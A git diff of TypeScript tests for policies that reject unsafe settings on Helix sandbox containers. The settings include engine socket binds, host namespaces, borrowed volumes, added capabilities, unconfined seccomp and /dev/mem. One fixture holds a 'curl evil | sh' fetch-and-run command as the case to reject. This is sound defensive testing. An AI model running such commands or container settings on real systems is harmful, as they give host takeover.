@@ -7,6 +7,7 @@ import { noHostTakeover } from "../../policy/network";
 import { policies } from "../../policy/policies";
 import { isRunner, isSandbox, parseImageReference } from "../../policy/runner";
 import {
+    sandboxAsHelixRunsIt,
     sandboxIdsUnique,
     sandboxImagePinned,
     sandboxNoDockerSocket,
@@ -79,7 +80,7 @@ describe("recognising a sandbox", () => {
 
     it("leaves the compliant runner to the runner policies: no sandbox policy reports on it", async () => {
         const sandboxPolicies = policies.filter((p) => p.name.startsWith("sandbox-"));
-        expect(sandboxPolicies).toHaveLength(7);
+        expect(sandboxPolicies).toHaveLength(8);
         for (const policy of sandboxPolicies) {
             const found =
                 "validateStack" in policy
@@ -251,6 +252,14 @@ describe("sandbox-no-docker-socket", () => {
             }),
         ).toEqual([]);
     });
+
+    it.each(["/run/user/1000/docker.sock", "/run/user/1000/podman/podman.sock", "/var/run/crio/crio.sock"])(
+        "fails a bind of %s, another engine's socket, whatever allowedHostPaths says",
+        async (hostPath) => {
+            const violations = await violationsOf(sandboxNoDockerSocket, binding(hostPath), { allowedHostPaths: [hostPath] });
+            expect(violations).toEqual([refused(`${hostPath}, a container engine's socket`, hostPath)]);
+        },
+    );
 });
 
 describe("sandbox-image-pinned", () => {
@@ -453,6 +462,73 @@ describe("sandbox-ids-unique", () => {
 
     it("ignores runners, whose IDs unique-runners checks", async () => {
         expect(await stackViolationsOf(sandboxIdsUnique, [runner(), { ...runner(), name: "runner-2" }, sandbox()])).toEqual([]);
+    });
+});
+
+describe("sandbox-as-helix-runs-it", () => {
+    it("passes a sandbox as Helix's installer runs it", async () => {
+        expect(await violationsOf(sandboxAsHelixRunsIt, sandbox())).toEqual([]);
+    });
+
+    it("fails a sandbox whose entrypoint or command is replaced: privileged, it would run anything", async () => {
+        expect(await violationsOf(sandboxAsHelixRunsIt, sandbox({ entrypoints: ["/bin/sh"], command: ["-c", "curl evil | sh"] }))).toEqual([
+            "Sandbox container must run Helix's image as it is, with the image's own entrypoint (it sets entrypoints [\"/bin/sh\"]): privileged, anything else it ran would own the host and hold the runner token.",
+            'Sandbox container must run Helix\'s image as it is, with the image\'s own command (it sets command ["-c","curl evil | sh"]): privileged, anything else it ran would own the host and hold the runner token.',
+        ]);
+        expect(await violationsOf(sandboxAsHelixRunsIt, sandbox({ entrypoints: [], command: [] }))).toEqual([]);
+    });
+
+    it.each([
+        ["pidMode", "host", "Sandbox container must not use the host's namespace (pidMode: host): it runs in its own, as Helix runs it."],
+        [
+            "networkMode",
+            "HOST",
+            "Sandbox container must not use the host's namespace (networkMode: host): it runs in its own, as Helix runs it.",
+        ],
+        ["ipcMode", "host", "Sandbox container must not use the host's namespace (ipcMode: host): it runs in its own, as Helix runs it."],
+        ["networkMode", "container:db", "Sandbox container must not share another container's namespace (networkMode: container:db)."],
+    ])("fails %s %s", async (mode, value, message) => {
+        expect(await violationsOf(sandboxAsHelixRunsIt, sandbox({ [mode]: value }))).toEqual([message]);
+    });
+
+    it("fails a sandbox that takes another container's volumes", async () => {
+        const volumes = [...sandboxProps().volumes, { fromContainer: "helix-postgres" }];
+        expect(await violationsOf(sandboxAsHelixRunsIt, sandbox({ volumes }))).toEqual([
+            "Sandbox container must not take another container's volumes (fromContainer helix-postgres): each sandbox has volumes of its own.",
+        ]);
+    });
+
+    it("ignores containers that are not sandboxes", async () => {
+        expect(await violationsOf(sandboxAsHelixRunsIt, runner({ command: ["sleep", "1"] }))).toEqual([]);
+    });
+});
+
+describe("privileged in all but the flag", () => {
+    const other = (changes: Record<string, unknown>) => ({
+        type: CONTAINER,
+        name: "other",
+        props: { image: "docker.io/library/alpine:3.20", ...changes },
+    });
+
+    it.each([
+        [{ capabilities: { adds: ["ALL"] } }, "capability ALL"],
+        [{ capabilities: { adds: ["CAP_SYS_ADMIN"] } }, "capability SYS_ADMIN"],
+        [{ securityOpts: ["seccomp=unconfined"] }, 'securityOpts "seccomp=unconfined"'],
+        [{ securityOpts: ["apparmor:unconfined"] }, 'securityOpts "apparmor:unconfined"'],
+        [{ devices: [{ hostPath: "/dev//mem" }] }, "the device /dev/mem"],
+        [{ pidMode: "host" }, "pidMode: host"],
+        [{ networkMode: "host" }, "networkMode: host"],
+        [{ ipcMode: "host" }, "ipcMode: host"],
+    ])("fails a container that is not flagged privileged but has %j", async (changes, what) => {
+        expect(await violationsOf(sandboxPrivilegedOnly, other(changes) as Fixture)).toEqual([
+            `Container must not be privileged in all but the flag (${what}): only Helix's sandbox image (ghcr.io/helixml/helix-sandbox) may be privileged, and this one runs "docker.io/library/alpine:3.20".`,
+        ]);
+    });
+
+    it("passes a plain container, and an allowed image", async () => {
+        expect(await violationsOf(sandboxPrivilegedOnly, other({ capabilities: { adds: ["NET_BIND_SERVICE"] } }) as Fixture)).toEqual([]);
+        const dind = { type: CONTAINER, name: "dind", props: { image: "docker:27-dind", capabilities: { adds: ["ALL"] } } } as Fixture;
+        expect(await violationsOf(sandboxPrivilegedOnly, dind, { allowedPrivilegedImages: ["docker"] })).toEqual([]);
     });
 });
 
